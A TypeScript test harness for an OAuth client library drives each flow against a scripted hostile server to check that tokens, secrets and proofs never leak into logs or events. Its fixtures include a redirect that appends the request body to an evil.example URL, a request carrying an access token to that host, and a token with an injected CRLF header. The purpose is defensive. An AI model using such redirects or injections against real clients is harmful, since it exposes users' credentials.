/** Goes through the flow of every module, with success and with every kind of failure, and lets everything be heard. */
import {
  AuthorizedHttpClient,
  ClientAuthentication,
  ClientCredentials,
  DeviceAuthorization,
  Dpop,
  DpopKey,
  EncryptedTokenStore,
  Introspection,
  Keyring,
  Login,
  PasswordGrant,
  PushedAuthorization,
  RefreshPolicy,
  Revocation,
  RotationPolicy,
  ServerMetadata,
  TokenEndpoint,
  TokenExchange,
  TokenService,
  TokenSource,
  TokenStore,
  UserInfo
} from "@effect-oauth/core"
import { ClientAssertion, IdToken, Jwks, JwtBearer } from "@effect-oauth/core/jose"
import { FileTokenStore } from "@effect-oauth/node"
import { Duration, Effect, Layer, Redacted, type Scope } from "effect"
import { SecureRandom } from "effect/crypto"
import { FetchHttpClient } from "effect/http"
import * as fs from "node:fs"
import * as os from "node:os"
import * as path from "node:path"
import * as Client from "../Client.ts"
import * as Server from "../HostileServer.ts"
import * as Heard from "./Heard.ts"
import type { Searched } from "./planted.ts"
import type { Said } from "./Search.ts"
import * as Secrets from "./Secrets.ts"

/** What was said, and what must not be in it. */
export interface Driven {
  readonly said: ReadonlyArray<Said>
  readonly secrets: Secrets.Secrets
  /** What was searched already, where it was said. */
  readonly searched?: ReadonlyArray<Searched> | undefined
  /** What did not go as it goes when nobody listens. */
  readonly problem?: string | undefined
}

/** Drives everything once. */
export const drive: Effect.Effect<Driven> = Effect.gen(function*() {
  const { assertionKey, dpopKey, encryptionKey, secrets } = yield* Effect.promise(Secrets.make)
  const heard = Heard.make()
  const secret = (name: string) => Redacted.make(secrets[name] ?? "")
  const issue = (name: string): string => {
    const value = Secrets.fresh()
    secrets[`${name} ${Object.keys(secrets).length}`] = value
    return value
  }
  const tokens = (members: Readonly<Record<string, unknown>> = {}) =>
    Server.tokens({
      access_token: issue("access token"),
      refresh_token: issue("refresh token"),
      id_token: `e30.${issue("ID token")}.x`,
      expires_in: 0,
      issued_token_type: "urn:ietf:params:oauth:token-type:access_token",
      ...members
    })
  // what the client makes up on the way is told by what it sends
  const learn = ({ form, headers }: Server.Received): void => {
    for (const name of ["code_verifier", "state", "client_assertion", "assertion", "nonce"]) {
      const value = form.get(name)
      if (value !== null) secrets[`${name} ${Object.keys(secrets).length}`] = value
    }
    const proof = headers["dpop"]
    if (proof !== undefined) secrets[`DPoP proof ${Object.keys(secrets).length}`] = proof.split(".")[2] ?? ""
  }
  const quote = (request: Server.Received): string =>
    `${request.body} ${request.headers["authorization"]} ${request.headers["dpop"]}`
  const behaviours = {
    success: () => tokens(),
    "a refusal that quotes": (request) =>
      Server.refusal("invalid_grant", 400, {
        error_description: quote(request),
        error_uri: `https://as.example/?${request.body}`
      }),
    "a challenge that quotes": (request) =>
      Server.json({ error: "invalid_client" }, {
        status: 401,
        headers: { "www-authenticate": `Basic realm="${quote(request)}"` }
      }),
    "an unavailable server that quotes": (request) =>
      Server.answer(503, { "retry-after": "0", "x-quote": quote(request) }, quote(request)),
    "a page that quotes": (request) => Server.answer(200, { "content-type": "text/html" }, `<p>${quote(request)}`),
    "a broken server that quotes": (request) =>
      Server.answer(
        500,
        { "content-type": "application/json" },
        JSON.stringify({ error: "server_error", error_description: quote(request) })
      ),
    "half an answer": () =>
      Server.json(`{"access_token":"${issue("access token")}","refresh_token":"${issue("refresh token")}"`),
    "a reset": () => Server.reset,
    "a redirect with what was sent": (request) => Server.redirect(`https://evil.example/?${request.body}`),
    "a token that no header takes": () => tokens({ access_token: `${issue("access token")}\r\nx: y` }),
    "a token of another type": () => tokens({ token_type: "mac" }),
    "an answer without a type": () => tokens({ token_type: undefined }),
    "tokens and an error": () => tokens({ error: "invalid_grant" }),
    "a scope that is none": () => tokens({ scope: ["x"] }),
    "a form": () =>
      Server.answer(
        200,
        { "content-type": "application/x-www-form-urlencoded" },
        `access_token=${issue("access token")}&refresh_token=${issue("refresh token")}`
      ),
    "a body that is no text": () =>
      Server.answer(
        200,
        { "content-type": "application/json" },
        Buffer.concat([Buffer.from(issue("access token")), Buffer.from([255])])
      ),
    "another status": () =>
      Server.json(
        { access_token: issue("access token"), refresh_token: issue("refresh token"), token_type: "Bearer" },
        { status: 201 }
      )
  } satisfies Readonly<Record<string, (request: Server.Received) => Server.Script>>

  const authentications = {
    post: ClientAuthentication.layerPost({ clientId: "app", clientSecret: secret("client secret") }),
    basic: ClientAuthentication.layerBasic({ clientId: "app", clientSecret: secret("client secret") }),
    "secret assertion": ClientAuthentication.layer(ClientAssertion.clientSecretJwt({
      clientId: "app",
      clientSecret: secret("client secret"),
      issuer: "https://as.example"
    })),
    "key assertion": ClientAuthentication.layer(ClientAssertion.privateKeyJwt({
      clientId: "app",
      issuer: "https://as.example",
      key: { jwk: Redacted.make(assertionKey as never), algorithm: "ES256" }
    }))
  }
  const dpop = Dpop.layerKey(DpopKey.fromJwk(Redacted.make(dpopKey)))
  const keyring = Keyring.layer({ current: "k", keys: { k: Redacted.make(encryptionKey) } })
  const directory = yield* Effect.acquireRelease(
    Effect.sync(() => fs.mkdtempSync(path.join(os.tmpdir(), "canary-"))),
    (directory) => Effect.sync(() => fs.rmSync(directory, { recursive: true, force: true }))
  )
  const stores = {
    memory: TokenStore.layerMemory,
    sealed: EncryptedTokenStore.layer().pipe(Layer.provide([TokenStore.layerMemory, Layer.orDie(keyring)])),
    file: Layer.orDie(FileTokenStore.layer({ directory }).pipe(Layer.provide(SecureRandom.layerWebCrypto)))
  }

  const scenario = Effect.fnUntraced(function*(
    name: string,
    answer: (request: Server.Received) => Server.Script,
    options: Client.Options & { readonly proven?: boolean }
  ) {
    const server = yield* Server.listen((request) => {
      learn(request)
      return request.target.startsWith("/token") && request.form.get("grant_type") === "refresh_token" &&
          name.endsWith("then success")
        ? tokens()
        : answer(request)
    })
    const origin = server.origin
    const app = Client.layer(origin, {
      ...options,
      server: {
        pushedAuthorizationRequestEndpoint: `${origin}/push`,
        rotation: RotationPolicy.fixed,
        dialect: { authorization: { pushed: "never" } },
        ...options.server
      },
      policy: {
        notSent: once,
        ambiguous: once,
        timeLimit: "1 second",
        waitAtMost: "500 millis",
        shutdownGrace: "50 millis"
      }
    })
    const proven = options.proven === true ? Layer.provideMerge(app, Layer.orDie(dpop)) : app

    const run = Effect.gen(function*() {
      const service = yield* TokenService.TokenService
      const logins = yield* Login.Login
      yield* heard.events(service)
      const { key } = yield* Client.adopted({
        accessToken: secret("first access token"),
        refreshToken: secret("first refresh token"),
        expiresIn: Duration.hours(1)
      })
      const steps: Readonly<Record<string, Effect.Effect<unknown, unknown, AppServices>>> = {
        login: Effect.gen(function*() {
          const begun = yield* logins.begin({ account: "bob", redirectUri: Client.redirectUri, scopes: ["openid"] })
          secrets[`state ${Object.keys(secrets).length}`] = Redacted.value(begun.state)
          secrets[`nonce ${Object.keys(secrets).length}`] = new URL(begun.url).searchParams.get("nonce") ?? "none"
          const answer = `${Client.redirectUri}?code=${secrets["code"]}&state=${Redacted.value(begun.state)}`
          heard.note("a login that was begun", { ...begun, url: "" })
          yield* logins.complete(answer)
        }),
        "a login's error": Effect.gen(function*() {
          const begun = yield* logins.begin({ account: "bob", redirectUri: Client.redirectUri, scopes: ["read"] })
          const state = secrets[`state ${Object.keys(secrets).length}`] = Redacted.value(begun.state)
          yield* logins.complete(`${Client.redirectUri}?error=access_denied&error_description=${state}&state=${state}`)
        }),
        "a forged answer": logins.complete(`${Client.redirectUri}?code=${secrets["code"]}&state=${secrets["code"]}`),
        "a broken answer": logins.complete(`${Client.redirectUri}?code=${secrets["code"]}%00&state=x`),
        refresh: service.refresh(key),
        token: service.token(key),
        refused: Effect.flatMap(service.token(key), (token) => service.refused(key, token)),
        api: Effect.flatMap(
          AuthorizedHttpClient.make(key),
          (api) => Effect.flatMap(api.get(`${origin}/api`), (response) => response.text)
        ),
        elsewhere: Effect.flatMap(
          AuthorizedHttpClient.make(key),
          (api) => api.get(`https://evil.example/?access_token=${secrets["first access token"]}`)
        ),
        status: Effect.map(service.status(key), (status) => heard.note("status", status)),
        introspect: Introspection.Introspection.use(({ introspect }) => introspect(secret("first access token"))),
        "the revocation endpoint": Revocation.Revocation.use(({ revoke }) => revoke(secret("first refresh token"))),
        device: DeviceAuthorization.DeviceAuthorization.use((device) =>
          Effect.flatMap(device.start(), (started) => device.poll({ ...started, deviceCode: secret("device code") }))
        ),
        push: PushedAuthorization.PushedAuthorization.use(({ push }) => push([["state", secret("code")]])),
        password: TokenEndpoint.TokenEndpoint.use(({ request }) =>
          request(PasswordGrant.make({ username: "ada", password: secret("password") }))
        ),
        "client credentials": Effect.flatMap(ClientCredentials.source(), ({ token }) => token),
        exchange: TokenExchange.exchange({
          subject: { token: secret("subject token"), type: TokenExchange.TokenType.accessToken }
        }),
        "an assertion": Effect.flatMap(
          JwtBearer.source({
            key: { jwk: Redacted.make(assertionKey as never), algorithm: "ES256" },
            issuer: "app",
            subject: "ada",
            audience: "https://as.example"
          }),
          ({ token }) => token
        ),
        userinfo: UserInfo.get(TokenSource.fixed({ value: secret("first access token"), type: "Bearer" }), "user-1"),
        metadata: Effect.flatMap(ServerMetadata.makeLoopback(), ({ get }) => get(origin)),
        "ID tokens": Effect.scoped(
          Layer.build(
            IdToken.layer({ algorithms: ["ES256"], clientSecret: secret("client secret") }).pipe(
              Layer.provide(Jwks.layer())
            )
          )
        ),
        ended: service.ended(key),
        restore: service.restore(key),
        revoke: service.revoke(key),
        "after it was revoked": service.token(key)
      }
      for (const [step, effect] of Object.entries(steps)) {
        yield* heard.ending(`${step} (${name})`, Effect.timeout(Effect.scoped(effect), "1 second"))
      }
      heard.note(`services (${name})`, [service, logins])
      heard.note(`contexts (${name})`, yield* Effect.context())
    })
    yield* heard.ending(
      `scenario (${name})`,
      Effect.provide(run, Layer.mergeAll(proven, FetchHttpClient.layer), { local: true })
    )
  }, Effect.scoped)

  yield* Effect.gen(function*() {
    yield* Effect.all([
      ...Object.entries(behaviours).map(([behaviour, answer]) =>
        scenario(behaviour, answer, { authentication: authentications.post })
      ),
      ...Object.entries(authentications).flatMap(([method, authentication]) => [
        scenario(`a refusal that quotes, by ${method}`, behaviours["a refusal that quotes"], { authentication }),
        scenario(`success, by ${method}`, behaviours.success, { authentication, proven: true })
      ]),
      ...Object.entries(stores).flatMap(([kind, store]) => [
        scenario(`success, kept in ${kind}`, behaviours.success, { store, proven: true }),
        scenario(`a page that quotes, kept in ${kind}, then success`, behaviours["a page that quotes"], { store })
      ])
    ], { concurrency: 8, discard: true })
    yield* heard.ending(
      "a keyring that is none",
      Effect.scoped(Layer.build(Keyring.layer({ current: "k", keys: { k: Redacted.make(encryptionKey.slice(2)) } })))
    )
    yield* heard.ending(
      "a DPoP key that is none",
      Effect.scoped(Layer.build(Dpop.layerKey(DpopKey.fromJwk(Redacted.make({ ...dpopKey, x: "x" })))))
    )
    yield* heard.ending(
      "an assertion key that is none",
      Effect.scoped(Layer.build(ClientAuthentication.layer(ClientAssertion.privateKeyJwt({
        clientId: "app",
        issuer: "https://as.example",
        key: { jwk: Redacted.make({ ...assertionKey, kty: "RSA" } as never), algorithm: "RS256" }
      }))))
    )
    // whatever an application does to these, they are printed without what is in them
    heard.note("keys", [yield* Layer.build(keyring), yield* Layer.build(dpop)])
    yield* heard.metrics
  }).pipe(Effect.provide(heard.layer), Effect.orDie)

  return { said: heard.said, secrets }
}).pipe(Effect.scoped, Effect.orDie)

type AppServices =
  | Layer.Success<ReturnType<typeof Client.layer>>
  | Layer.Success<typeof FetchHttpClient.layer>
  | Scope.Scope

const once = RefreshPolicy.defaults.notSent
